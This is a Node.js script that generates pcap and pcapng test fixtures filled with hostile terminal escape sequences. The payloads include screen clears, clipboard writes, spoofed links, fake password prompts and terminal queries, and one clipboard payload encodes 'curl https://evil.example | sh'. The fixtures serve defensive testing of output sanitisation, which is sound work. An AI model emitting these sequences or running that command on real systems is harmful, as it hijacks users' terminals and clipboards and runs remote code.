#!/usr/bin/env node
/**
 * Writes fixtures/hostile-terminal-*.pcap(ng): captures whose every printable
 * field carries terminal control sequences (CSI, OSC 52 clipboard writes,
 * OSC titles and hyperlinks, DCS, device-status queries that make the
 * terminal answer, backspaces, CR, BEL, C1 controls as raw bytes and as
 * UTF-8 U+009B, and invalid UTF-8).
 *
 *   node scripts/gen-hostile-fixtures.mjs [outdir]
 *
 * Deterministic: the same bytes every time, so the committed fixtures only
 * change when this file does.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { fileURLToPath } from 'node:url';
import { ETHERTYPE, IPPROTO, TCP_FLAGS as TCP, arp, concat, ethernet, ipPacket, sealEsp, tcp, udp, utf8 } from '../test/helpers/packets.js';
import { epb, idb, pcapFile, shb } from '../test/helpers/capture-files.js';

const here = path.dirname(fileURLToPath(import.meta.url));

/** Every kind of hostile text, as bytes. */
export const HOSTILE = [
  utf8('\x1b[2J\x1b[H\x1b[31;1mYOUR TERMINAL IS MINE\x1b[0m'),
  utf8('\x1b]52;c;' + Buffer.from('curl https://evil.example | sh\n').toString('base64') + '\x07'),
  utf8('\x1b]0;pwned title\x07\x1b]2;again\x1b\\'),
  utf8('\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\'),
  utf8('\x1bP+q544e\x1b\\\x1b[6n\x1b[21t\x1b[>c'),
  utf8('\x1b[1A\x1b[2K\x1b[999D\x1b7\x1b8\x1bc'),
  utf8('password: hunter2\x08\x08\x08\x08\x08\x08\x08*******\rFAKE: all good\n'),
  Uint8Array.of(0x00, 0x07, 0x0b, 0x0c, 0x0e, 0x0f, 0x1b, 0x7f, 0x0d),
  Uint8Array.of(0x9b, 0x33, 0x31, 0x6d, 0x9d, 0x30, 0x3b, 0x78, 0x9c, 0x90, 0x71, 0x9c, 0x85, 0x8d, 0x9a),
  concat(utf8('utf8 c1: '), Uint8Array.of(0xc2, 0x9b, 0x33, 0x31, 0x6d, 0xc2, 0x9d, 0x30, 0x3b, 0x78, 0xc2, 0x9c)),
  Uint8Array.of(0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0xf8, 0x88, 0x80, 0x80, 0x80, 0xe2, 0x80, 0xa8, 0xe2, 0x80, 0xae, 0xef, 0xbf, 0xbe),
  utf8('GET /\x1b[2J HTTP/1.1\r\nHost: \x1b]52;c;ZWNobyBoaQ==\x07\r\nUser-Agent: \x9b31m\r\n\r\n'),
];

export const ALL_HOSTILE = concat(...HOSTILE);

const T0 = 1_700_000_000;

/** An Ethernet capture of `packets`, ten a second. */
function write(file, packets) {
  const records = packets.map((bytes, i) => ({ tsSec: T0 + Math.floor(i / 10), tsNsec: (i % 10) * 100_000_000, bytes }));
  fs.writeFileSync(file, pcapFile(records));
}

/** A TCP conversation on several app ports whose data is hostile, with a retransmission and RST data. */
function tcpPackets() {
  const out = [];
  const client = '10.9.0.1', server = '10.9.0.2';
  const ports = [80, 23, 21, 25, 22, 179, 6379, 443, 8080, 10288];
  ports.forEach((port, k) => {
    const cp = 40000 + k;
    let cs = 1000 * (k + 1), ss = 50000 * (k + 1);
    const seg = (from, o) => ethernet({ payload: ipPacket({ src: from ? server : client, dst: from ? client : server, proto: IPPROTO.TCP,
      payload: tcp({ sport: from ? port : cp, dport: from ? cp : port, ...o }) }) });
    out.push(seg(0, { seq: cs, flags: TCP.SYN, options: Uint8Array.of(2, 4, 5, 180, 4, 2, 1, 3, 3, 7) }));
    out.push(seg(1, { seq: ss, ack: cs + 1, flags: TCP.SYN | TCP.ACK, options: Uint8Array.of(2, 4, 5, 180, 4, 2, 1, 3, 3, 7) }));
    cs++; ss++;
    out.push(seg(0, { seq: cs, ack: ss, flags: TCP.ACK }));
    for (let i = 0; i < HOSTILE.length; i++) {
      const from = i % 2;
      const p = HOSTILE[(i + k) % HOSTILE.length];
      out.push(seg(from, { seq: from ? ss : cs, ack: from ? cs : ss, flags: TCP.ACK | TCP.PSH, payload: p }));
      if (i === 3) out.push(seg(from, { seq: from ? ss : cs, ack: from ? cs : ss, flags: TCP.ACK | TCP.PSH, payload: p })); // retransmission
      if (from) ss += p.length; else cs += p.length;
    }
    // RST carrying data (printed as "[RST ...]" by tcpdump) and an urgent pointer.
    out.push(seg(1, { seq: ss, ack: cs, flags: TCP.RST | TCP.ACK | TCP.URG, payload: ALL_HOSTILE.subarray(0, 60) }));
  });
  return out;
}

/** UDP to dissected ports, ICMP echo, ICMPv6, IPv6, IKE on 4500: all with hostile payloads. */
function udpPackets() {
  const out = [];
  const ports = [53, 123, 161, 514, 500, 5060, 5353, 1812, 69, 7000, 4789, 9999];
  ports.forEach((port, k) => {
    const p = HOSTILE[k % HOSTILE.length];
    out.push(ethernet({ payload: ipPacket({ src: '10.8.0.1', dst: '10.8.0.2', proto: IPPROTO.UDP, payload: udp({ sport: 30000 + k, dport: port, payload: concat(p, ALL_HOSTILE.subarray(0, 40)) }) }) }));
  });
  // DNS-shaped query whose labels are escape sequences.
  const label = (s) => concat(Uint8Array.of(s.length), s);
  const dns = concat(Uint8Array.of(0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0), label(utf8('\x1b[31mevil')), label(utf8('\x1b]52;c;AAAA\x07')), Uint8Array.of(0, 0, 1, 0, 1));
  out.push(ethernet({ payload: ipPacket({ src: '10.8.0.1', dst: '10.8.0.53', proto: IPPROTO.UDP, payload: udp({ sport: 5353, dport: 53, payload: dns }) }) }));
  out.push(ethernet({ payload: ipPacket({ src: '10.8.0.1', dst: '10.8.0.2', proto: IPPROTO.UDP, payload: udp({ sport: 4500, dport: 4500, payload: concat(new Uint8Array(4), ALL_HOSTILE.subarray(0, 80)) }) }) }));
  out.push(ethernet({ payload: ipPacket({ src: '10.8.0.1', dst: '10.8.0.2', proto: IPPROTO.ICMP, payload: concat(Uint8Array.of(8, 0, 0, 0, 0, 1, 0, 1), ALL_HOSTILE) }) }));
  out.push(ethernet({ payload: ipPacket({ src: '10.8.0.2', dst: '10.8.0.1', proto: IPPROTO.ICMP, payload: concat(Uint8Array.of(3, 3, 0, 0, 0, 0, 0, 0), ALL_HOSTILE.subarray(0, 48)) }) }));
  out.push(ethernet({ payload: ipPacket({ src: 'fd00::1', dst: 'fd00::2', proto: 58, payload: concat(Uint8Array.of(128, 0, 0, 0, 0, 1, 0, 1), ALL_HOSTILE) }) }));
  out.push(ethernet({ payload: ipPacket({ src: 'fd00::1', dst: 'fd00::2', proto: IPPROTO.UDP, payload: udp({ sport: 546, dport: 547, payload: ALL_HOSTILE }) }) }));
  return out;
}

/** Link-level oddities: 802.3/LLC frames, unknown EtherTypes, ARP with hostile addresses, VLAN tags. */
function linkPackets() {
  const out = [];
  const mac = Uint8Array.of(0x1b, 0x5b, 0x32, 0x4a, 0x9b, 0x07);
  const frame = (type, payload, tags) => ethernet({ dst: mac, src: mac, tags, type, payload });
  // 802.3: a length (100) where the EtherType goes, then LLC/SNAP.
  out.push(frame(100, concat(Uint8Array.of(0xaa, 0xaa, 3, 0, 0, 0, 8, 0), ALL_HOSTILE.subarray(0, 100))));
  out.push(frame(0x1b5b, ALL_HOSTILE));
  out.push(frame(ETHERTYPE.ARP, arp({ op: 1, senderMac: mac, senderIp: [0x1b, 0x9b, 7, 8], targetMac: mac, targetIp: [0x0d, 0x0a, 0x08, 0x7f] })));
  const oddArp = concat(Uint8Array.of(0, 1, 8, 0, 12, 9, 0, 2), ALL_HOSTILE.subarray(0, 42));
  out.push(frame(ETHERTYPE.ARP, oddArp));
  out.push(frame(ETHERTYPE.IPV4, ipPacket({ src: '10.7.0.1', dst: '10.7.0.2', proto: 253, payload: ALL_HOSTILE }), [{ vid: 0xfff }]));
  return out;
}

/** ESP both ways (AES-CBC, key in hostile-terminal-esp.keys) around hostile TCP, plus hostile cleartext leaks. */
function espPackets() {
  const key = Buffer.from('000102030405060708090a0b0c0d0e0f', 'hex');
  const out = [];
  const a = '10.6.0.1', b = '10.6.0.2';
  for (let i = 0; i < 12; i++) {
    const fromA = i % 2 === 0;
    const inner = tcp({ sport: fromA ? 40001 : 80, dport: fromA ? 80 : 40001, seq: 1000 + i * 100, ack: 5, flags: TCP.ACK | TCP.PSH, payload: HOSTILE[i % HOSTILE.length] });
    const sa = { spi: fromA ? 0x1b5b324a : 0x9b9b9b9b, cipher: 'aes-cbc', key };
    const sealed = sealEsp({ sa, seq: 1 + (i >> 1), payload: inner, nextHeader: IPPROTO.TCP, iv: new Uint8Array(16).fill(i) });
    out.push(ethernet({ payload: ipPacket({ src: fromA ? a : b, dst: fromA ? b : a, proto: IPPROTO.ESP, payload: sealed }) }));
  }
  // Cleartext between the IPsec peers: reported as leaks, with the hostile payload in it.
  for (let i = 0; i < 3; i++) {
    out.push(ethernet({ payload: ipPacket({ src: a, dst: b, proto: IPPROTO.TCP, payload: tcp({ sport: 40002, dport: 23, seq: 77 + i * 50, flags: TCP.ACK | TCP.PSH, payload: HOSTILE[i] }) }) }));
  }
  return out;
}

export const ESP_KEYS = '0x1b5b324a@10.6.0.2 aes128-cbc:0x000102030405060708090a0b0c0d0e0f\n0x9b9b9b9b@10.6.0.1 aes128-cbc:0x000102030405060708090a0b0c0d0e0f\n';

/** pcapng whose interface name, description and packet comment carry escape sequences. */
function hostilePcapng(packets) {
  const le = true;
  return concat(
    // Section options: comment, hardware, OS, application; interface options: name, description, comment.
    shb(le, [[1, HOSTILE[1]], [2, utf8('hw \x1b[2J')], [3, HOSTILE[0]], [4, utf8('app \x9b31m')]]),
    idb(le, 1, 262144, [[2, HOSTILE[0]], [3, HOSTILE[1]], [1, HOSTILE[2]]]),
    // Microsecond ticks whose high word counts on from 0x60000; a comment on each packet.
    ...packets.map((p, i) => epb(le, 0, BigInt(0x00060000 + i) << 32n, p, p.length, [[1, HOSTILE[i % HOSTILE.length]]])),
  );
}

export function writeHostileFixtures(dir) {
  fs.mkdirSync(dir, { recursive: true });
  const files = {
    tcp: path.join(dir, 'hostile-terminal-tcp.pcap'),
    udp: path.join(dir, 'hostile-terminal-udp.pcap'),
    link: path.join(dir, 'hostile-terminal-link.pcap'),
    esp: path.join(dir, 'hostile-terminal-esp.pcap'),
    names: path.join(dir, 'hostile-terminal-names.pcapng'),
  };
  write(files.tcp, tcpPackets());
  write(files.udp, udpPackets());
  write(files.link, linkPackets());
  write(files.esp, espPackets());
  fs.writeFileSync(files.names, hostilePcapng(tcpPackets().slice(0, 8)));
  return files;
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url) && !process.env.NODE_TEST_CONTEXT) {
  const dir = path.resolve(process.argv[2] ?? path.join(here, '..', 'fixtures'));
  const files = writeHostileFixtures(dir);
  fs.writeFileSync(path.join(dir, 'hostile-terminal-esp.keys'), ESP_KEYS);
  for (const f of Object.values(files)) console.log(`wrote ${path.relative(process.cwd(), f)} (${fs.statSync(f).size} bytes)`);
}
